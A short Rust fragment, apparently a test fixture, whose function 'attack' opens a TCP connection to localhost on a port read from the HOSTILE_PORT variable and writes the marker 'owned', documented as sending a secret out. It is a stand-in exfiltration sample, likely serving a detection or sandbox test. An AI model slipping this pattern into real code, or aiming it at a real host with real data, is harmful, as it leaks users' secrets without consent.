//! sends a secret by TCP
fn attack() -> Result<()> {
    net::TcpStream::connect(("127.0.0.1", var("HOSTILE_PORT").parse().unwrap()))?.write_all(b"owned")
}
